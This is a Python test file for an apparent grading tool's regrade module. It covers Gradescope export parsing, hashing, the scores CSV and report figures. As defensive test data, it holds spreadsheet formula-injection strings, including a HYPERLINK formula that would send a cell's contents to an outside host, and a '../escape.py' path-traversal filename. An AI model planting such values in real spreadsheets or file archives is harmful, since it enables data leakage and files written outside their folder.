"""The parts of a regrade that need no grading: the folder layout, hashes, the CSV, the report's numbers."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from lmgrade.core.selection import Selection
from lmgrade.course.regrade.content import grading_fingerprint, read_files, write_files
from lmgrade.course.regrade.failures import remedy
from lmgrade.course.regrade.graded import CheckScore, Graded
from lmgrade.course.regrade.layout import METADATA, LayoutError, Student, SubmissionFolder, discover, read_metadata
from lmgrade.course.regrade.report import histogram, mistake_counts
from lmgrade.course.regrade.scores_csv import points, scores_table
from lmgrade.declare import catalog
from lmgrade.submissions.submitted_files import content_hash

EXPORT = """\
submission_101:
  :submitters:
  - :name: Ada Lovelace
    :sid: '100'
    :email: ada@example.edu
  :created_at: 2024-03-01 10:00:00.000000000 -08:00
  :score: !ruby/object:BigDecimal 18:0.95e2
submission_7:
  :submitters:
  - :name: Pair One
    :sid: '200'
    :email: one@example.edu
  - :name: Pair Two
    :email: two@example.edu
submission_gone:
  :submitters:
  - :name: Nobody Here
"""


def make_export(root: Path, folders=("submission_101", "submission_7", "submission_9")) -> Path:
    root.mkdir(parents=True)
    (root / METADATA).write_text(EXPORT)
    for name in folders:
        (root / name).mkdir()
        (root / name / "ngram.py").write_text(f"# {name}\n")
    return root


def test_an_export_gives_students_in_natural_order(tmp_path):
    layout = discover(make_export(tmp_path / "export"))
    assert [s.key for s in layout.submissions] == ["submission_7", "submission_9", "submission_101"]
    by_key = {s.key: s.students for s in layout.submissions}
    assert by_key["submission_101"] == (Student("Ada Lovelace", "ada@example.edu", "100"),)
    assert [s.name for s in by_key["submission_7"]] == ["Pair One", "Pair Two"]
    assert by_key["submission_9"] == ()  # a folder the metadata does not list is still graded
    assert any("submission_9" in note for note in layout.notes)
    # Gradescope's own score, where the export gives it (a Ruby BigDecimal here).
    assert [s.original_score for s in layout.submissions] == [None, None, 95.0]


@pytest.mark.parametrize(
    "written, score",
    [("12.5", 12.5), ("'7'", 7.0), ("!ruby/object:BigDecimal 27:0.1e3", 100.0), ("~", None), (".nan", None)]
    + [("'=1+1'", None), ("[1, 2]", None), ("{a: 1}", None), ("true", None), (".inf", None)],
)
def test_gradescope_s_score_is_read_as_a_number_or_not_at_all(tmp_path, written, score):
    (tmp_path / "s1").mkdir()
    (tmp_path / METADATA).write_text(f"s1:\n  :submitters: []\n  :score: {written}\n")
    assert discover(tmp_path).submissions[0].original_score == score


def test_an_export_wrapped_in_one_more_folder_is_looked_into(tmp_path):
    make_export(tmp_path / "download" / "assignment_123_export")
    layout = discover(tmp_path / "download")
    assert layout.root.name == "assignment_123_export" and len(layout.submissions) == 3


def test_plain_folders_without_metadata(tmp_path):
    for name in ("bob", "alice", ".git", "__MACOSX", "out"):
        (tmp_path / name).mkdir()
    (tmp_path / "notes.txt").write_text("not a submission")
    layout = discover(tmp_path, exclude=(tmp_path / "out",))
    assert [s.key for s in layout.submissions] == ["alice", "bob"]
    assert all(s.students == () for s in layout.submissions) and layout.notes == []


@pytest.mark.parametrize(
    "make, words",
    [
        (lambda root: None, "holds no sub-folders"),
        (lambda root: (root / "sub").mkdir() or (root / METADATA).write_text("a: [unclosed"), "cannot be read"),
        (lambda root: (root / "sub").mkdir() or (root / METADATA).write_text("- a list\n"), "expected a mapping"),
    ],
)
def test_a_root_that_is_not_a_class_is_a_one_line_error(tmp_path, make, words):
    make(tmp_path)
    with pytest.raises(LayoutError, match=words) as caught:
        discover(tmp_path)
    assert "\n" not in str(caught.value)


def test_metadata_reads_ruby_keys_and_tags(tmp_path):
    (tmp_path / METADATA).write_text(EXPORT)
    metadata = read_metadata(tmp_path / METADATA)
    assert metadata["submission_gone"] == (Student("Nobody Here"),)
    assert metadata["submission_7"][1] == Student("Pair Two", "two@example.edu", "")


def test_content_hash_follows_names_and_bytes_only(tmp_path):
    folder = tmp_path / "s"
    (folder / "pkg").mkdir(parents=True)
    (folder / "ngram.py").write_text("x = 1\n")
    (folder / "pkg" / "helper.py").write_text("y = 2\n")
    first = content_hash(folder)
    (folder / "__pycache__").mkdir()
    (folder / "__pycache__" / "ngram.cpython-311.pyc").write_bytes(b"\0")
    assert content_hash(folder) == first  # caches are not the submission
    for skipped in (".venv/lib", ".git/objects", "__MACOSX"):  # nor what the sandbox never copies
        (folder / skipped).mkdir(parents=True)
        (folder / skipped / "blob").write_bytes(b"\1")
    assert content_hash(folder) == first and set(read_files(folder)) == {"ngram.py", "pkg/helper.py"}
    (folder / "pkg" / "helper.py").write_text("y = 3\n")
    assert content_hash(folder) != first
    (folder / "pkg" / "helper.py").write_text("y = 2\n")
    (folder / "pkg" / "helper.py").rename(folder / "helper.py")
    assert content_hash(folder) != first  # the same bytes elsewhere are another tree


def test_files_travel_and_come_back_the_same(tmp_path):
    folder = tmp_path / "s"
    (folder / "a" / "b").mkdir(parents=True)
    (folder / "ngram.py").write_bytes(b"x = 1\n")
    (folder / "a" / "b" / "data.bin").write_bytes(bytes(range(256)))
    copy = tmp_path / "copy"
    copy.mkdir()
    write_files(read_files(folder), copy)
    assert content_hash(copy) == content_hash(folder)
    with pytest.raises(ValueError, match="leaves its folder"):
        write_files({"../escape.py": b""}, copy)


def test_the_fingerprint_changes_with_the_secret_and_the_variant():
    rnn = catalog.load("rnn")
    tanh = catalog.load(Selection("rnn", {"activation": "tanh"}))
    base = grading_fingerprint(*rnn, "secret-a")
    assert grading_fingerprint(*rnn, "secret-a") == base
    assert grading_fingerprint(*rnn, "secret-b") != base
    assert grading_fingerprint(*tanh, "secret-a") != base


def test_points_are_written_the_same_way_every_time():
    assert [points(x) for x in (100.0, 12.5, 100 / 3, 0.0, -0.0, 1e-9)] == ["100", "12.5", "33.333333", "0", "0", "0"]


def graded(*scores: tuple[str, float, float, str]) -> Graded:
    return Graded(tuple(CheckScore(name, score, maximum, "", mistake) for name, score, maximum, mistake in scores))


def test_the_table_has_a_row_per_submission_and_a_column_per_check():
    assignment, _ = catalog.load("ngram")
    checks = assignment.checks[:2]
    pair = SubmissionFolder("s1", Path("s1"), (Student("A", "a@x"), Student("B", "b@x")))
    table = scores_table(
        checks,
        [
            (pair, graded(("pad", 5, 5, ""), ("count_ngrams", 2.5, 10, "no_bos"))),
            (SubmissionFolder("s2", Path("s2")), Graded(error="HarnessFault: boom")),
        ],
    )
    assert table[0] == ["submission", "student", "email", "score", "max", "pad", "count_ngrams", "not graded"]
    assert table[1] == ["s1", "A; B", "a@x; b@x", "7.5", "15", "5", "2.5", ""]
    # Not graded: 0, never empty (an import would keep an earlier grade), its checks empty and its cause said.
    assert table[2][:-1] == ["s2", "", "", "0", "15", "", ""]
    assert table[2][-1] == "HarnessFault: boom; to do: " + remedy("HarnessFault: boom")


def test_gradescope_s_own_score_is_beside_the_regrade_s_with_the_change():
    assignment, _ = catalog.load("ngram")
    checks = assignment.checks[:2]
    table = scores_table(
        checks,
        [
            (SubmissionFolder("s1", Path("s1"), (), 10.0), graded(("pad", 5, 5, ""), ("count_ngrams", 2.5, 10, ""))),
            (SubmissionFolder("s2", Path("s2"), (), 7.5), graded(("pad", 5, 5, ""), ("count_ngrams", 2.5, 10, ""))),
            (SubmissionFolder("s3", Path("s3")), graded(("pad", 5, 5, ""))),
            (SubmissionFolder("s4", Path("s4"), (), 15.0), Graded(error="OSError: [Errno 28] No space left on device")),
        ],
    )
    assert table[0][3:7] == ["score", "max", "gradescope score", "change"]
    assert [row[3:7] for row in table[1:]] == [
        ["7.5", "15", "10", "-2.5"],  # the grader's own number: a number, never neutralised
        ["7.5", "15", "7.5", "0"],
        ["5", "5", "", ""],
        ["0", "15", "15", ""],
    ]
    assert table[4][-1].startswith("OSError: [Errno 28] No space left on device; to do: free space on the disk")


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x/?"&C2,"Ada")', "=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_a_cell_a_student_wrote_is_never_a_formula(text):
    assignment, _ = catalog.load("ngram")
    rows = [(SubmissionFolder(text, Path("s"), (Student(text, text, text),)), graded(("pad", 5, 5, "")))]
    table = scores_table(assignment.checks[:1], rows, {text: text})
    assert table[1][:4] == ["'" + text] * 4 and table[1][4] == "5"


def test_a_name_the_file_system_holds_in_latin_1_is_written_as_its_bytes(tmp_path):
    """A folder named in Latin-1 (not UTF-8): keyed by a spelling every output can write; its files are read."""
    root = tmp_path / "class"
    (root / "caf\udce9").mkdir(parents=True)  # b"caf\xe9" on disk
    (root / "plain").mkdir()
    assert os.path.isdir(os.fsencode(root) + b"/caf\xe9")
    layout = discover(root)
    assert [s.key for s in layout.submissions] == ["caf\\xe9", "plain"]
    assert layout.submissions[0].folder.is_dir()
    table = scores_table(
        catalog.load("ngram")[0].checks[:1], [(s, graded(("pad", 5, 5, ""))) for s in layout.submissions]
    )
    assert table[1][0] == "caf\\xe9"


def test_histogram_puts_full_marks_in_the_last_bin():
    bins = histogram([0, 9.99, 10, 55, 100, 100], 100)
    assert [b.count for b in bins] == [2, 1, 0, 0, 0, 1, 0, 0, 0, 2]
    assert bins[0].label == "0–10" and bins[-1].label == "90–100"


def test_mistakes_are_counted_once_per_submission_most_frequent_first():
    assignment, _ = catalog.load("ngram")
    class_grades = [
        graded(("pad", 0, 5, "no_bos"), ("count_ngrams", 0, 10, "no_bos")),
        graded(("pad", 0, 5, "no_bos"), ("fit", 0, 5, "bos_in_vocab")),
        graded(("fit", 0, 5, "bos_in_vocab")),
        graded(("logprob", 0, 10, "log2")),
    ]
    counts = mistake_counts(assignment, class_grades)
    assert [(m.name, m.submissions) for m in counts] == [("bos_in_vocab", 2), ("no_bos", 2), ("log2", 1)]
    assert counts[1].checks == ("pad", "count_ngrams") and counts[1].explanation
